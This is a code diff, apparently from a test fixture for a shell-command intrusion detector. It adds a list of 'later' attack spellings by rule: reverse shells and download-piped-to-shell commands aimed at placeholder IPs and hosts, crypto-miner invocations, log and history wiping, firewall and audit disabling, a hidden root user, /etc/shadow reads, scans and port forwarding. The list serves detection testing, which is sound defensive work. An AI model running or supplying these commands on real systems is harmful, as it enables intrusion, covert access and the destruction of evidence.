@@ -239,6 +239,28 @@ ATTACKS = {
     ],
 }
 
+# Spellings written after the catalogue, without looking at it: 54 of their 57 forms were caught
+# then. Two misses were fixed (a known miner's name, `auditctl -e0`); the third, a renamed miner
+# started with only a config file (`nohup ./sysupdate -c config.json`), says nothing of itself
+# on its command line and is left out: its pool connections are what a threat list catches.
+LATER = {
+ "reverse-shell": ["/bin/bash -c 'sh -i >& /dev/tcp/198.51.100.3/1337 0>&1'", "ncat -nv 198.51.100.3 8443 -e /bin/zsh", "nc 198.51.100.3 53 -e /bin/ash", "python -c \"import socket,os,pty;s=socket.socket();s.connect(('198.51.100.3',80));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn('/bin/sh')\"", "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"198.51.100.3:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'", "socat tcp-connect:198.51.100.3:4444 exec:sh,pty,stderr,setsid", "0<&196;exec 196<>/dev/tcp/198.51.100.3/4242; sh <&196 >&196 2>&196", "/usr/bin/php -r '$s=fsockopen(\"198.51.100.3\",1234);shell_exec(\"sh <&3 >&3 2>&3\");'", "busybox sh -i 2>&1 | busybox nc 198.51.100.3 9999 > /tmp/p < /tmp/p"],
+ "crypto-miner": ["/var/tmp/.x/xmrig --url pool.hashvault.pro:443 --user 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD --tls", "./kdevtmpfsi -o 198.51.100.9:5555", "minerd -o stratum+tcp://xmr.example.org:3333 -u WALLET", "./cpuminer --algo=cryptonight -o stratum+tcp://203.0.113.1:3333"],
+ "download-piped-to-shell": ["wget -O- -q http://198.51.100.3/s | /bin/sh", "curl -sL 198.51.100.3/i|bash", "curl -fsSL https://x.example/a -o- | sudo -E bash", "fetch -o - http://198.51.100.3/x | sh", "lwp-download http://198.51.100.3/a.sh /dev/stdout | sh"],
+ "logs-removed": ["rm -f /var/log/auth.log*", "find /var/log/ -type f -exec truncate -s 0 {} \\;", "cp /dev/null /var/log/syslog", "shred -n 3 -u -z /var/log/messages"],
+ "history-cleared": ["rm -rf ~/.bash_history", "history -c && exit", "export HISTFILE=/dev/null", "echo '' > /root/.bash_history"],
+ "firewall-disabled": ["iptables -t nat -F", "iptables -P OUTPUT ACCEPT", "/usr/sbin/ufw --force disable", "systemctl mask --now firewalld", "nft flush table inet filter"],
+ "user-added": ["useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor", "adduser --system backdoor"],
+ "password-hash-read": ["less /etc/shadow", "awk -F: '{print $2}' /etc/shadow", "head -n 3 /etc/shadow", "xxd /etc/shadow"],
+ "audit-disabled": ["auditctl -e0", "systemctl disable auditd.service", "service auditd stop"],
+ "binary-from-temp": ["/dev/shm/.x", "/tmp/update.bin --silent", "chmod +x /tmp/a; /tmp/a"],
+ "network-scanner": ["nmap -Pn -p 22,23 10.0.0.0/24", "masscan -p1-65535 192.168.0.0/16 --rate=1000"],
+ "privileged-container": ["docker run -d --privileged --net=host alpine", "docker container run --cap-add=SYS_ADMIN -it ubuntu bash"],
+ "port-forwarding": ["ssh -R 0.0.0.0:8080:127.0.0.1:22 u@198.51.100.3 -N", "socat tcp4-listen:3389,reuseaddr,fork tcp4:10.0.0.9:3389"],
+}
+for _rule, _lines in LATER.items():
+    ATTACKS[_rule].extend(_lines)
+
 # routine administration, as an admin who logged in as usual would type it: must raise nothing
 BENIGN = [
     "df -h", "free -m", "uptime", "systemctl restart nginx", "systemctl status sshd",
